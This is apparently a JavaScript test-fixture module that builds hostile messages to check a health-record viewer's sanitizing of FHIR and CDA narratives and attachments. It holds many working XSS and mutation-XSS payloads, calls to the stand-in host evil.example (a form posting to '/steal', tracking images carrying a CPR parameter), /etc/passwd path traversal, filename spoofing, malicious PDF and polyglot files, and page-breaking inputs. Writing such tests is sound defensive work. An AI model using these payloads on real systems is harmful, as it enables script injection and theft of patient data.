// What a hostile sender may put into a message. Each would call `hit(…)`, fetch from `evil.example`, leave the page
// or break it, if it got through. `mark` stands in each, so that one can see that the rest was still shown.

const HIT = (name) => `globalThis.hit&amp;&amp;hit('${name}')`;
const URL_ = "https://evil.example";

/** Markup of a FHIR narrative, well-formed or not. */
const MARKUP = {
  // script and handlers
  script: "<script>globalThis.hit&&hit('script')</script>",
  "script-src": `<script src="${URL_}/a.js"></script>`,
  "script-cdata": "<script><![CDATA[globalThis.hit&&hit('script-cdata')]]></script>",
  "script-in-namespace": `<s:script xmlns:s="http://www.w3.org/1999/xhtml">globalThis.hit&amp;&amp;hit('ns')</s:script>`,
  "script-upper": "<SCRIPT>globalThis.hit&&hit('upper')</SCRIPT>",
  "img-onerror": `<img src="${URL_}/x" onerror="${HIT("img-onerror")}" alt=""/>`,
  "img-onerror-case": `<img src="x" ONERROR="${HIT("img-onerror-case")}" alt=""/>`,
  onclick: `<p onclick="${HIT("onclick")}" id="p1">klik</p>`,
  onmouseover: `<b onmouseover="${HIT("onmouseover")}">over</b>`,
  onfocus: `<p tabindex="0" autofocus="autofocus" onfocus="${HIT("onfocus")}">fokus</p>`,
  ontoggle: `<details open="open" ontoggle="${HIT("ontoggle")}"><summary>x</summary></details>`,
  onanimation: `<p style="animation:breathe 1s" onanimationstart="${HIT("onanimation")}">x</p>`,
  "body-onload": `<body onload="${HIT("body-onload")}">x</body>`,
  "video-onerror": `<video src="${URL_}/v.mp4" onerror="${HIT("video")}"></video>`,
  "audio-source": `<audio autoplay="autoplay"><source src="${URL_}/a.mp3" onerror="${HIT("audio")}"/></audio>`,
  // addresses that are not what they seem
  javascript: `<a href="javascript:${HIT("javascript")}">link</a>`,
  "javascript-case": `<a href="JaVaScRiPt:${HIT("javascript-case")}">link</a>`,
  "javascript-tab": `<a href="java&#9;script:${HIT("javascript-tab")}">link</a>`,
  "javascript-newline": `<a href="java&#10;script:${HIT("javascript-newline")}">link</a>`,
  "javascript-space": `<a href=" &#1;javascript:${HIT("javascript-space")}">link</a>`,
  "javascript-entity": `<a href="&#106;&#97;vascript:${HIT("javascript-entity")}">link</a>`,
  "javascript-comment": `<a href="javascript:/*https://sundhed.dk*/${HIT("javascript-comment")}">link</a>`,
  "javascript-href-xlink": `<a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="javascript:${HIT("xlink")}">link</a>`,
  vbscript: `<a href="vbscript:${HIT("vbscript")}">link</a>`,
  "data-html": `<a href="data:text/html,%3Cscript%3Eparent.hit('data')%3C/script%3E">link</a>`,
  "data-base64": `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">link</a>`,
  "blob-link": `<a href="blob:${URL_}/1">link</a>`,
  "file-link": `<a href="file:///etc/passwd">link</a>`,
  "protocol-relative": `<a href="//evil.example/x" target="_self" ping="//evil.example/ping">link</a>`,
  "backslash-relative": `<a href="\\\\evil.example\\x">link</a>`,
  "img-remote": `<img src="${URL_}/track.gif?cpr=1" alt=""/>`,
  "img-protocol-relative": `<img src="//evil.example/track.gif" alt=""/>`,
  "img-srcset": `<img srcset="${URL_}/a.png 1x" src="#" alt=""/>`,
  "img-data-svg": `<img src="data:image/svg+xml,%3Csvg xmlns='http://www.w3.org/2000/svg' onload='parent.hit(1)'/%3E" alt=""/>`,
  "img-lowsrc": `<img lowsrc="${URL_}/a" dynsrc="${URL_}/b" longdesc="${URL_}/c" alt=""/>`,
  "table-background": `<table background="${URL_}/bg.png"><tbody><tr><td background="${URL_}/td.png">x</td></tr></tbody></table>`,
  // style
  "style-attribute": `<p style="position:fixed;inset:0;background:url(${URL_}/bg)">dæk</p>`,
  "style-expression": `<p style="width:expression(${HIT("expression")})">x</p>`,
  "style-import": `<style>@import url("${URL_}/a.css"); * { display: none }</style>`,
  "style-host": `<style>:host { display: none } .cpr { background: url("${URL_}/leak") }</style>`,
  "link-stylesheet": `<link rel="stylesheet" href="${URL_}/a.css"/>`,
  "link-prefetch": `<link rel="prefetch" href="${URL_}/a"/><link rel="dns-prefetch" href="//evil.example"/>`,
  "class-names": `<p class="document bar skip notice--danger verdict">klasse</p>`,
  "id-clobber": `<p id="hit" name="documentElement">id</p><form id="settled"><input name="attributes"/></form>`,
  slot: `<p slot="error">slot</p><slot name="actions"></slot>`,
  part: `<p part="content frame">part</p>`,
  // frames, forms and the page itself
  iframe: `<iframe src="${URL_}/"></iframe>`,
  "iframe-srcdoc": `<iframe srcdoc="&lt;script&gt;parent.hit('srcdoc')&lt;/script&gt;"></iframe>`,
  object: `<object data="${URL_}/x.swf" type="application/x-shockwave-flash"></object>`,
  embed: `<embed src="${URL_}/x.pdf"/>`,
  applet: `<applet code="${URL_}/x.class"></applet>`,
  frameset: `<frameset><frame src="${URL_}/"/></frameset>`,
  "form-action": `<form action="${URL_}/steal" method="post"><input name="cpr" value="x"/><button type="submit" autofocus="autofocus">Log ind</button></form>`,
  "button-formaction": `<button formaction="javascript:${HIT("formaction")}">Log ind</button>`,
  "input-image": `<input type="image" src="${URL_}/i.png" onerror="${HIT("input-image")}"/>`,
  "meta-refresh": `<meta http-equiv="refresh" content="0;url=${URL_}/"/>`,
  "base-href": `<base href="${URL_}/"/>`,
  portal: `<portal src="${URL_}/"></portal><fencedframe src="${URL_}/"></fencedframe>`,
  dialog: `<dialog open="open">Skriv dit CPR-nummer</dialog><div popover="auto" id="pop">x</div>`,
  "map-area": `<map name="m"><area shape="default" href="javascript:${HIT("area")}" alt="x"/></map><img usemap="#m" src="#" alt=""/>`,
  // other namespaces
  "svg-onload": `<svg xmlns="http://www.w3.org/2000/svg" onload="${HIT("svg-onload")}"><circle r="1"/></svg>`,
  "svg-script": `<svg xmlns="http://www.w3.org/2000/svg"><script>globalThis.hit&amp;&amp;hit('svg-script')</script></svg>`,
  "svg-use": `<svg xmlns="http://www.w3.org/2000/svg"><use href="${URL_}/s.svg#a"/><image href="${URL_}/i.png"/></svg>`,
  "svg-animate": `<svg xmlns="http://www.w3.org/2000/svg"><a><animate attributeName="href" values="javascript:${HIT("animate")}"/><text y="20">x</text></a></svg>`,
  "svg-foreign": `<svg xmlns="http://www.w3.org/2000/svg"><foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="${URL_}/"/></foreignObject></svg>`,
  "svg-style": `<svg xmlns="http://www.w3.org/2000/svg"><style>@import "${URL_}/a.css";</style></svg>`,
  "math-href": `<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext href="javascript:${HIT("math")}">x</mtext></math>`,
  "xml-stylesheet": `<?xml-stylesheet href="${URL_}/a.xsl" type="text/xsl"?><p>x</p>`,
  // shapes that change when they are read a second time
  "mxss-noscript": `<noscript><p title="&lt;/noscript&gt;&lt;img src=x onerror=${HIT("mxss-noscript")}&gt;">x</p></noscript>`,
  "mxss-style": `<style>&lt;/style&gt;&lt;img src=x onerror=${HIT("mxss-style")}&gt;</style>`,
  "mxss-math-style": `<math xmlns="http://www.w3.org/1998/Math/MathML"><mtext><table xmlns="http://www.w3.org/1999/xhtml"><mglyph><style>&lt;!--&lt;/style&gt;&lt;img title="--&gt;&lt;img src=1 onerror=${HIT("mxss-math")}&gt;"/&gt;</style></mglyph></table></mtext></math>`,
  "mxss-template": `<template><img src="x" onerror="${HIT("template")}"/></template>`,
  "mxss-xmp": `<xmp>&lt;/xmp&gt;&lt;img src=x onerror=${HIT("xmp")}&gt;</xmp><plaintext>x</plaintext>`,
  "mxss-select": `<select><option>&lt;/select&gt;&lt;img src=x onerror=${HIT("select")}&gt;</option></select>`,
  "mxss-title": `<p title="--&gt;&lt;/p&gt;&lt;script&gt;hit('title')&lt;/script&gt;">x</p>`,
  "double-escaped": `<p>&amp;lt;script&amp;gt;hit('double')&amp;lt;/script&amp;gt;</p>`,
  "custom-element": `<klarsyn-document bytes="{}" onclick="${HIT("custom")}"></klarsyn-document>`,
  "is-attribute": `<p is="klarsyn-document" contenteditable="true" draggable="true" accesskey="s">x</p>`,
  "shadow-template": `<div><template shadowrootmode="open"><script>hit('shadow')</script></template></div>`,
  "xml-entity": `<p>&xxe;</p>`,
  "unclosed": `<p><b><i>x`,
  "wrong-nesting": `<b><p>x</b></p><td>celle</td></div></div><p>efter</p>`,
  // shapes that would break the page
  "huge-table": `<table><tbody>${"<tr><td>1</td><td>2</td><td>3</td></tr>".repeat(4000)}</tbody></table>`,
  "wide-table": `<table><tbody><tr>${"<td>kolonne</td>".repeat(600)}</tr></tbody></table>`,
  "deep-nesting": `${"<div>".repeat(3000)}dyb${"</div>".repeat(3000)}`,
  "deep-lists": `${"<ul><li>".repeat(400)}dyb${"</li></ul>".repeat(400)}`,
  "colspan-bomb": `<table><tbody><tr><td colspan="100000000" rowspan="100000000">x</td></tr></tbody></table>`,
  "long-word": `<p>${"A".repeat(50_000)}</p>`,
  "many-marks": `<p>a${"\u0300".repeat(5000)}</p>`,
  "wide-pre": `<pre>${"x".repeat(20_000)}</pre>`,
  "dir-rtl": `<p dir="rtl">tilbage</p><bdo dir="rtl">vendt</bdo>`,
};

/** Text of a message: it may be shown, and nothing else. */
const TEXT = {
  "text-script": "<script>hit('text')</script><img src=x onerror=hit('text')>",
  "text-link": `javascript:hit('text-link') ${URL_}/x //evil.example data:text/html,<script>hit(1)</script>`,
  "text-override": "Ring \u202E87654321\u202C og \u2066skjult\u2069 tekst \u202Dvendt",
  "text-unclosed-override": "\u202E\u2067\u202E\u2067 uden slutning",
  "text-control": "styre\u0008\u0007\u001B[31mtegn\u0085\u2028linje",
  "text-zero-width": "us\u200Byn\u200Dlig\uFEFF tek\u2060st",
  "text-lone-surrogate": "halv \uD83D tegn \uDC00 her",
  "text-template": "{{constructor.constructor('hit(1)')()}} ${hit(1)} <%= hit(1) %>",
  "text-long-line": "x".repeat(100_000),
  "text-many-lines": "linje\n".repeat(20_000),
};

const b64 = (text) => btoa(unescape(encodeURIComponent(text)));
const PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==";

/** Attachments: `{ contentType, title, data, url }`. */
const FILES = {
  "file-html-as-png": { contentType: "image/png", title: "billede", data: b64("<html><script>parent.hit('html')</script></html>") },
  "file-svg": { contentType: "image/svg+xml", title: "tegning", data: b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="parent.hit('svg')"><image href="${URL_}/x"/></svg>`) },
  "file-svg-as-png": { contentType: "image/png", title: "tegning", data: b64(`<svg xmlns="http://www.w3.org/2000/svg" onload="parent.hit('svg2')"/>`) },
  "file-html": { contentType: "text/html", title: "side", data: b64("<script>parent.hit('page')</script>") },
  "file-exe-as-pdf": { contentType: "application/pdf", title: "epikrise", data: b64("MZ\u0000\u0001 not a pdf") },
  "file-pdf-script": { contentType: "application/pdf", title: "epikrise", data: b64("%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj") },
  "file-polyglot": { contentType: "image/gif", title: "foto", data: b64("GIF89a/*<html><script>parent.hit('poly')</script>*/=1;hit('gif');") },
  "file-png-with-html": { contentType: "image/png", title: "foto", data: PNG.slice(0, -2) + b64("<script>hit('png')</script>") },
  "file-type-with-handler": { contentType: 'image/png" onload="hit(1)', title: "foto", data: PNG },
  "file-title-markup": { contentType: "image/png", title: "<img src=x onerror=hit('title')>", data: PNG },
  "file-title-override": { contentType: "application/pdf", title: "epikrise\u202Efdp.exe", data: b64("%PDF-1.4") },
  "file-title-path": { contentType: "image/png", title: "../../../etc/passwd\u0000.png", data: PNG },
  "file-title-script-name": { contentType: "application/pdf", title: "regning.pdf.js", data: b64("%PDF-1.4") },
  "file-link-javascript": { contentType: "image/png", title: "foto", url: "javascript:hit('url')" },
  "file-link-data": { contentType: "application/pdf", title: "svar", url: "data:text/html,<script>hit('data')</script>" },
  "file-link-remote": { contentType: "image/png", title: "foto", url: `${URL_}/foto.png?cpr=1` },
  "file-link-relative": { contentType: "image/png", title: "foto", url: "//evil.example/foto.png" },
  "file-link-credentials": { contentType: "image/png", title: "foto", url: "https://sundhed.dk@evil.example/foto.png" },
  "file-not-base64": { contentType: "image/png", title: "foto", data: "dette er ikke base64 !!!" },
  "file-bomb-size": { contentType: "image/png", title: "foto", data: "A".repeat(2_000_000) },
};

/** Narratives of CDA: the probes that HL7's own stylesheet has been asked, and what its grammar does not know. */
const CDA = {
  "cda-linkHtml-javascript": `<linkHtml href="javascript:${HIT("linkHtml")}">link</linkHtml><linkHtml href="java&#9;script:hit(1)">link</linkHtml>`,
  "cda-linkHtml-relative": `<linkHtml href="//evil.example/x">link</linkHtml><linkHtml href="../x.html">link</linkHtml>`,
  "cda-table-handlers": `<table onclick="${HIT("cda-table")}" border="javascript:hit(1)"><tbody><tr><td onmouseover="${HIT("cda-td")}" style="color:red">x</td></tr></tbody></table>`,
  "cda-style-class": `<content styleCode="Bold evilclass">x</content><paragraph styleCode="k-vh">x</paragraph>`,
  "cda-xhtml": `<x:script xmlns:x="http://www.w3.org/1999/xhtml">hit('cda-xhtml')</x:script><x:iframe xmlns:x="http://www.w3.org/1999/xhtml" src="${URL_}/"/>`,
  "cda-nesting": `<table><tbody><tr><td>a<td>b</td></td></tr></tbody></table>${"<content>".repeat(150)}x${"</content>".repeat(150)}`,
  "cda-picture-remote": `<renderMultiMedia referencedObject="m1"><caption>foto</caption></renderMultiMedia>`,
};

/** A CDA document with a text, with a picture outside of it, and with a style sheet that a browser must not ask for. */
const cda = (text) => `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="//evil.example/cda.xsl"?>
<ClinicalDocument xmlns="urn:hl7-org:v3"><code code="34133-9"/><title>${MARK}</title><component><structuredBody><component><section><title>${MARK}</title>
<text><paragraph>${MARK}</paragraph>${text}</text><entry><observationMedia ID="m1"><value mediaType="image/png"><reference value="//evil.example/x.png"/></value>
</observationMedia></entry><entry><observationMedia><value mediaType="image/svg+xml" representation="B64">${b64("<svg onload=\"hit('cda-svg')\"/>")}</value>
</observationMedia></entry></section></component></structuredBody></component></ClinicalDocument>`;

const MARK = "MÆRKE";

/** Every attack: a name, and the message that carries it, made from an example. */
export function attacks({ note, message }) {
  const all = [];
  const bytes = (text) => new TextEncoder().encode(text);
  for (const [name, markup] of Object.entries(MARKUP)) {
    const bundle = JSON.parse(note);
    for (const { resource } of bundle.entry) {
      if (resource.resourceType !== "Composition") continue;
      const div = `<div xmlns="http://www.w3.org/1999/xhtml"><p>${MARK}</p>${markup}<p>${MARK}</p></div>`;
      resource.text = { status: "generated", div };
      for (const section of resource.section ?? []) section.text = { status: "generated", div };
    }
    all.push({ name, element: "document", bytes: bytes(JSON.stringify(bundle)) });
  }
  for (const [name, text] of Object.entries(CDA)) all.push({ name, element: "document", bytes: bytes(cda(text)) });
  for (const [name, text] of Object.entries(TEXT)) {
    const bundle = JSON.parse(message);
    for (const { resource } of bundle.entry) {
      if (resource.resourceType === "Communication") {
        resource.topic = { text: `${MARK} ${text.slice(0, 2000)}` };
        for (const payload of resource.payload) if (payload.contentString !== undefined) payload.contentString = `${MARK} ${text}`;
      }
      if (resource.resourceType === "Organization") resource.name = `${MARK} ${text.slice(0, 2000)}`;
    }
    all.push({ name, element: "correspondence", bytes: bytes(JSON.stringify(bundle)) });
  }
  for (const [name, file] of Object.entries(FILES)) {
    const bundle = JSON.parse(message);
    for (const { resource } of bundle.entry) {
      if (resource.resourceType !== "Communication") continue;
      const text = resource.payload.find((payload) => payload.contentString !== undefined);
      text.contentString = MARK;
      resource.payload.push({ ...text, contentString: undefined, contentAttachment: file });
    }
    all.push({ name, element: "correspondence", bytes: bytes(JSON.stringify(bundle)) });
  }
  return all;
}

export { MARK };
